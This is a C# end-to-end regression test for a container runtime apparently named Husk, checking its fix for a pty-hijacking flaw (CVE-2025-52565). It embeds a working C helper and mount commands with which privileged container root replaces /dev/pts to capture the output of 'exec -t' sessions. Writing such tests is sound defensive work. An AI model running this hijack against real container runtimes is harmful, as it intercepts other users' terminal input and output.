using Husk.E2E.Isolation.Namespaces;
using Husk.E2E.Isolation.Process;
using Husk.E2E.Terminal;
using Xunit;

namespace Husk.E2E.Security;

/// <summary>
/// CVE-2025-52565 class: a runtime that opens the pty slave by its name (/dev/pts/N, from TIOCGPTN)
/// inside a running container opens whatever the container put at that path. The container's root
/// here (with CAP_SYS_ADMIN, as a privileged workload has) keeps the real devpts at /realpts, mounts a
/// tmpfs over /dev/pts with the real ptmx bind-mounted into it, makes /dev/pts/0..63 symlinks to a
/// pty of its own, and reads that pty's master. Then `husk exec -t` runs a program that prints a
/// marker. Husk opens /dev/pts/ptmx O_PATH, checks it is a devpts ptmx (5:2, inode 2, on devpts),
/// and gets the slave from the master with TIOCGPTPEER, never by its name.
/// Observed before the fix: the exec succeeded, its output reached the container's own pty
/// ("hello-42" in /report/hijacked) and nothing reached the console socket's master.
/// After: the container's pty reads nothing; TIOCGPTPEER fails with ENOENT (the kernel looks for the
/// slave through the devpts mount the master was opened from, and the ptmx here is a single-file bind
/// mount on the container's tmpfs), so exec -t is refused with one line.
/// </summary>
[Collection(SecurityCollection.Name)]
public class Cve2025_52565Tests
{
    const string Hijacker = """
        #define _GNU_SOURCE
        #include <fcntl.h>
        #include <stdio.h>
        #include <sys/ioctl.h>
        #include <unistd.h>

        int main(void)
        {
            int master = open("/realpts/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC);
            if (master < 0) { perror("open /realpts/ptmx"); return 1; }
            int unlock = 0;
            unsigned n;
            if (ioctl(master, TIOCSPTLCK, &unlock) || ioctl(master, TIOCGPTN, &n)) { perror("ioctl"); return 1; }
            char target[64], link[64];
            snprintf(target, sizeof target, "/realpts/%u", n);
            for (int i = 0; i < 64; i++) {
                snprintf(link, sizeof link, "/dev/pts/%d", i);
                symlink(target, link);
            }
            int out = open("/report/hijacked", O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
            int ready = open("/report/ready", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
            write(ready, "1", 1);
            close(ready);
            char buf[512];
            for (;;) {
                ssize_t len = read(master, buf, sizeof buf);
                if (len > 0) write(out, buf, (size_t)len);
                else usleep(10000);   /* EIO while no one has the slave open */
            }
        }
        """;

    [Fact]
    public void Exec_t_gets_its_own_pty_when_the_container_replaced_dev_pts()
    {
        using var s = new Sandbox();
        s.WithCapability("CAP_SYS_ADMIN");
        s.Config["root"]!["readonly"] = false;
        Directory.CreateDirectory(s.Bundle.HostPath("/realpts"));
        string source = s.Bundle.WriteFile("/report/hijack.c", Hijacker);
        var cc = ProcessRunner.Run("gcc", ["-static", "-O2", "-o", s.Bundle.HostPath("/hijack"), source]);
        Assert.True(cc.ExitCode == 0, cc.Describe("gcc -static of the hijacking helper"));
        s.Script("mount --bind /dev/pts /realpts && mount -t tmpfs none /dev/pts && touch /dev/pts/ptmx && " +
                 "mount --bind /realpts/ptmx /dev/pts/ptmx && exec /hijack");
        s.StartDetached(out var id);
        ProcessProbe.WaitForFile(s.Bundle.HostPath("/report/ready"));

        using var console = new ConsoleSocketListener();
        var exec = s.Root.Run("exec", "-t", "-d", "--console-socket", console.Path, id, "sh", "-c", "echo hello-$((6*7)); sleep 5");
        Thread.Sleep(500);   // time for the container's pty to read anything that reached it
        string hijacked = File.ReadAllText(s.Bundle.HostPath("/report/hijacked"));
        Assert.True(!hijacked.Contains("hello-42"), $"the exec'd program's terminal was the container's own pty: it read \"{hijacked.Trim()}\"");
        // The kernel gives the slave only through the devpts mount the ptmx was opened from, here the
        // container's tmpfs: the exec is refused, in one line.
        Assert.True(exec.ExitCode != 0, exec.Describe("exec -t with a hostile /dev/pts must be refused"));
        Assert.Contains("/dev/pts/ptmx is not reached through its devpts mount", Attack.OneLine(exec));
        s.Delete(id);
        s.AssertNothingLeaked();
    }
}
